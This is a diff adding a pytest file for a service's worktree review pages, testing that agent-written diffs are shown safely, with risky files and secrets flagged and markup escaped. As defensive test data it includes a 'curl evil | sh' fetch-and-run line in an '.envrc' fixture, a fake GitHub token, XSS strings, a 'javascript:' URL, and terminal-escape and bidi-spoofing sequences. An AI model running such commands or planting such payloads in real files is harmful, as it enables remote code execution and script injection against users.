@@ -1,0 +1,127 @@
+"""The review pages: a worktree's diff for people, whatever its agent wrote in names, messages and files."""
+
+import os
+import re
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from launcher.service.page import reviewing
+from launcher.vcs.worktrees.models import Worktree
+from launcher.vcs.worktrees.worktree_service import WorktreeService
+from tests.support import repository
+from tests.support.paged import Paged, paged
+from tests.support.repository import Place, committed, git
+from tests.unit.test_page_rendering import ATTACKS
+
+FOREIGN = ("<script>alert", "<img", "<svg onload", "<iframe", "\x1b", "\u202e", "\u2066")
+NASTY = "\x1b[31mred\x1b]0;t\x07 \u202etxt.exe\u2066"
+
+
+@pytest.fixture
+def place(tmp_path: Path) -> Place:
+    (tmp_path / "repository").mkdir()
+    return repository.plain(tmp_path / "repository")
+
+
+@pytest.fixture
+def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Paged]:
+    """A page, a browser that was let in, and jobs that find the same state."""
+    (tmp_path / "service").mkdir(mode=0o700)
+    for name in ("XDG_STATE_HOME", "XDG_CONFIG_HOME", "XDG_DATA_HOME", "XDG_CACHE_HOME"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("HOME", str(tmp_path / "service/home"))
+    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "service/run"))
+    with paged(tmp_path / "service") as made:
+        yield made
+
+
+def worktree(browser: Paged, place: Place, ticket: str) -> Worktree:
+    """A worktree in the state of the page's service."""
+    return WorktreeService(browser.places.state).add(place.app, ticket)
+
+
+def test_the_list_and_the_diff_of_a_worktree(browser: Paged, place: Place) -> None:
+    """What would run comes first, secrets are marked and shown, each line and file has an address."""
+    made = worktree(browser, place, "T-1")
+    root = Path(made.path)
+    committed(root, **{"aaa": "one\ntwo\n", ".envrc": "curl evil | sh\n"})
+    (root / "config").write_text("key = ghp_" + "a1B2" * 9 + "\n")
+    listed = browser.get("/worktrees").text
+    assert f'href="/worktrees/{made.worktree_id}"' in listed
+    assert "to merge" in listed
+    text = browser.get(f"/worktrees/{made.worktree_id}").text
+    marked = text.partition('id="marked"')[2].partition("</section>")[0]
+    assert marked.index(".envrc") < marked.index("config")
+    assert "a shell or its environment manager runs it" in marked
+    assert "1 line with what looks secret" in marked
+    assert "looks like a GitHub token" in text
+    assert "key = ghp_a1B2" in text
+    key = re.findall(r'href="#(f-[0-9a-f]{16})"[^>]*>.envrc', marked)[0]
+    assert f'id="{key}"' in text
+    assert re.search(r'<td class="no" id="n2-[0-9a-f]{16}"><a href="#n2-', text)
+    split = browser.get(f"/worktrees/{made.worktree_id}?view=split").text
+    assert 'class="diff split"' in split
+    assert browser.get(f"/worktrees/{made.worktree_id}?view=other").status_code == 404
+    assert browser.get("/worktrees/none").status_code == 404
+
+
+def test_more_of_one_file_is_shown_when_it_is_asked_for(browser: Paged, place: Place) -> None:
+    """Of many lines the first; all of them, and nothing else, by the link."""
+    made = worktree(browser, place, "T")
+    (Path(made.path) / "many").write_text("line\n" * 3_000)
+    (Path(made.path) / "other").write_text("other\n")
+    text = browser.get(f"/worktrees/{made.worktree_id}").text
+    assert "2600 more lines" in text
+    link = re.findall(rf'href="(/worktrees/{made.worktree_id}\?view=unified&amp;file=[0-9a-f]+)"', text)[0]
+    more = browser.get(link.replace("&amp;", "&")).text
+    assert more.count('<tr class="add">') == 3_000
+    assert "other" not in more.partition('class="file"')[2]
+
+
+def test_nothing_that_an_agent_wrote_is_markup(browser: Paged, place: Place) -> None:
+    """Names of files and branches, messages, contents, links, submodule names, ten megabytes on a line."""
+    made = worktree(browser, place, "T")
+    root = Path(made.path)
+    for attack in (*ATTACKS, NASTY):
+        name = attack.replace("/", "\u2044")
+        (root / name).write_text(f"{attack}\n")
+        os.symlink(attack, root / f"link-{name}")
+        git("add", "-A", at=root)
+        git("commit", "-qm", attack, f"--author={attack.replace('<', '').replace('>', '')} <x@y>", at=root)
+        (root / f"new-{name}").write_text(f"{attack}\n")
+    (root / "renamed<b>").mkdir()
+    (root / "renamed<b>" / "\x07file").write_text("x" * 10_000_000)
+    (root / os.fsdecode(b"\xff\xfe<i>")).write_text("bytes\n")
+    (root / ".gitmodules").write_text('[submodule "<script>alert(1)</script>"]\n\tpath = x\n\turl = javascript:x\n')
+    for view in ("unified", "split"):
+        text = browser.get(f"/worktrees/{made.worktree_id}?view={view}").text
+        assert not [each for each in FOREIGN if each in text]
+        assert not re.search(r"<(b|i|iframe|img|textarea)>", text)
+        assert not re.search(r"<[a-z][^>]*\son\w+=", text)
+        assert "&lt;script&gt;alert(1)" in text
+        assert r"\x1b[31mred\x1b]0;t\x07 \u202etxt.exe\u2066" in text
+        assert r"\xff\xfe&lt;i&gt;" in text
+        assert len(text) < 2_000_000
+
+
+def test_lines_are_put_side_by_side() -> None:
+    """What was taken out beside what came for it; what has no partner beside nothing."""
+    lines: list[reviewing.Line] = [
+        [" ", 1, 1, "a"], ["-", 2, None, "b"], ["-", 3, None, "c"], ["+", None, 2, "B"], ["-", 4, None, "d"],
+        ["+", None, 3, "D"], ["+", None, 4, "E"], [" ", 5, 5, "z"],
+    ]  # fmt: skip
+    shown = [(left and left[3], right and right[3]) for left, right in reviewing._paired(lines)]
+    assert shown == [("a", "a"), ("b", "B"), ("c", None), ("d", "D"), (None, "E"), ("z", "z")]
+
+
+def test_a_page_has_a_bounded_number_of_lines() -> None:
+    """The files behind are named, and shown when they are asked for."""
+    files: list[dict[str, Any]] = [
+        {"hunks": [{"lines": [["+", None, n, "x", 0, ""] for n in range(400)]}], "note": ""} for _ in range(10)
+    ]
+    reviewing.lay_out([{"sections": [{"files": files}]}], "unified", most=reviewing.MOST_ROWS)
+    assert sum(len(hunk["rows"]) for file in files for hunk in file["hunks"]) <= reviewing.MOST_ROWS
+    assert [file["note"] for file in files] == [""] * 6 + ["later"] * 4
